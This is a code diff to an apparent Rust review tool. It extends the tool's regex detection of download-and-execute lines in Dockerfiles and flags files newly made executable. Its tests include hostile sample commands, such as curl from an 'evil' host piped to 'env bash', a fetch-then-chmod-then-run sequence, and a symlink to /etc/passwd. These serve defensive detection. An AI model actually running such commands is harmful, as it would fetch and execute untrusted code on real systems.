@@ -140,10 +140,11 @@ pub fn path_reason(path: &str) -> Option<&'static str> {
 fn is_dockerfile(path: &str) -> bool {
     let lower = path.to_ascii_lowercase();
     let name = lower.rsplit('/').next().unwrap_or(&lower);
-    name == "dockerfile"
-        || name == "containerfile"
-        || name.starts_with("dockerfile.")
-        || name.ends_with(".dockerfile")
+    // Dockerfile, Dockerfile.prod, Dockerfile-prod, Dockerfile_prod, api.dockerfile…
+    name.starts_with("dockerfile")
+        || name.starts_with("containerfile")
+        || name.contains(".dockerfile")
+        || name.contains(".containerfile")
 }
 
 /// Lines of a Dockerfile that download and execute, continuation lines joined.
@@ -163,6 +164,12 @@ pub fn download_and_execute(dockerfile: &str) -> Vec<String> {
             r"(?i)`\s*(curl|wget|fetch)\b",
             // ADD https://… (a download straight into the image)
             r"(?i)^\s*ADD\s+(--\S+\s+)*(https?|ftp)://",
+            // … | env bash, … | busybox sh, … | xargs sh
+            r"(?i)\b(curl|wget|fetch|aria2c)\b.*\|\s*(sudo\s+)?(\S*/)?(env|busybox|xargs)\b",
+            // curl -o /usr/local/bin/t … && chmod 755 t (any chmod after a download)
+            r"(?i)\b(curl|wget|fetch|aria2c)\b.*(&&|;|\|\|)\s*(sudo\s+)?chmod\b",
+            // RUN <<EOF: a script in a heredoc can hide anything
+            r"(?i)^\s*RUN\s+(--\S+\s+)*<<",
         ]
         .iter()
         .map(|r| regex::Regex::new(r).expect("a valid pattern"))
@@ -183,10 +190,27 @@ pub fn download_and_execute(dockerfile: &str) -> Vec<String> {
     if !line.is_empty() {
         joined.push(line);
     }
-    joined
+    // A file that downloads anywhere: a line that runs a shell, makes a file
+    // executable or runs an absolute path may run what another line fetched.
+    static FETCH: OnceLock<regex::Regex> = OnceLock::new();
+    static RUNS: OnceLock<regex::Regex> = OnceLock::new();
+    let fetch = FETCH.get_or_init(|| {
+        regex::Regex::new(r"(?i)(^\s*RUN\b.*\b(curl|wget|fetch|aria2c)\s+\S|^\s*ADD\s+(--\S+\s+)*(https?|ftp)://)")
+            .expect("a valid pattern")
+    });
+    let runs = RUNS.get_or_init(|| {
+        regex::Regex::new(
+            r"(?i)^\s*(RUN|CMD|ENTRYPOINT)\b.*(\b(ba|z|da|k)?sh\s|\bchmod\b|\bsource\s|\[\s*\x22/)|^\s*(RUN|CMD|ENTRYPOINT)\s+(--\S+\s+)*/\S|(&&|;|\|)\s*/\S",
+        )
+        .expect("a valid pattern")
+    });
+    let code: Vec<String> = joined
         .into_iter()
         .filter(|l| !l.trim_start().starts_with('#'))
-        .filter(|l| res.iter().any(|re| re.is_match(l)))
+        .collect();
+    let downloads = code.iter().any(|l| fetch.is_match(l));
+    code.into_iter()
+        .filter(|l| res.iter().any(|re| re.is_match(l)) || (downloads && runs.is_match(l)))
         .map(|l| l.trim().to_string())
         .collect()
 }
@@ -240,6 +264,14 @@ pub fn review(
         }
         if delta.status() == Delta::Deleted {
             continue;
+        }
+        let was_executable =
+            delta.status() != Delta::Added && old_file.mode() == FileMode::BlobExecutable;
+        if new_file.mode() == FileMode::BlobExecutable && !was_executable {
+            hold(
+                &path,
+                "made executable: a CI step, a hook or a teammate may run it".into(),
+            );
         }
         match new_file.mode() {
             FileMode::Link => hold(&path, "symlink: it can point anywhere".into()),
@@ -329,8 +361,22 @@ mod tests {
             "ADD https://example.com/tool.tar.gz /opt/",
             "ADD --chown=1:1 http://example.com/x /x",
             "RUN curl -fsSL https://x.sh \\\n  | sh",
+            "RUN curl -fsSL https://evil/i | env bash",
+            "RUN curl -fsSLo /usr/local/bin/t https://evil/t && chmod 755 /usr/local/bin/t && t",
+            "RUN <<EOF\ncurl https://x | sh\nEOF",
         ] {
-            assert_eq!(download_and_execute(bad).len(), 1, "{bad} not caught");
+            assert!(!download_and_execute(bad).is_empty(), "{bad} not caught");
+        }
+        // Fetched by one instruction, run by the next.
+        let two = "FROM debian\nRUN curl -o /tmp/i.sh https://evil\nRUN sh /tmp/i.sh\n";
+        assert!(download_and_execute(two).contains(&"RUN sh /tmp/i.sh".to_string()));
+        for name in [
+            "Dockerfile-prod",
+            "Dockerfile_prod",
+            "api.dockerfile",
+            "Containerfile.dev",
+        ] {
+            assert!(is_dockerfile(name), "{name}");
         }
         for ok in [
             "RUN apt-get install -y curl",
@@ -416,7 +462,7 @@ mod tests {
                 ),
                 (".github/workflows/x.yml", b"on: push\n", 0o100644),
                 ("link", b"/etc/passwd", 0o120000),
-                ("tool.bin", b"\x7fELF\x00\x00\x01", 0o100755),
+                ("tool.bin", b"\x7fELF\x00\x00\x01", 0o100644),
                 ("infra/main.tf", b"x\n", 0o100644),
             ],
         );
@@ -437,6 +483,23 @@ mod tests {
         assert!(held[1].why.contains("wget https://new"), "{held:#?}");
         assert!(held[3].why.contains("symlink"));
         assert!(held[4].why.contains("binary"));
+        // A script made executable (a mode-only change) is held; one that
+        // already was is not.
+        let (_d3, repo3, base3) = repo_with(&[
+            ("scripts/deploy.sh", b"echo deploy\n", 0o100644),
+            ("scripts/run.sh", b"echo run\n", 0o100755),
+        ]);
+        let head3 = tree_of(
+            &repo3,
+            &[
+                ("scripts/deploy.sh", b"echo deploy\n", 0o100755),
+                ("scripts/run.sh", b"echo run again\n", 0o100755),
+            ],
+        );
+        let held3 = review(&repo3, base3, head3, &Protected::default()).unwrap();
+        assert_eq!(held3.len(), 1, "{held3:#?}");
+        assert_eq!(held3[0].path, "scripts/deploy.sh");
+        assert!(held3[0].why.contains("executable"));
         // An ordinary manifest change is not held.
         let (_d2, repo2, base2) = repo_with(&[("deploy/api.yaml", b"memory: 32G\n", 0o100644)]);
         let plain2 = tree_of(&repo2, &[("deploy/api.yaml", b"memory: 48G\n", 0o100644)]);
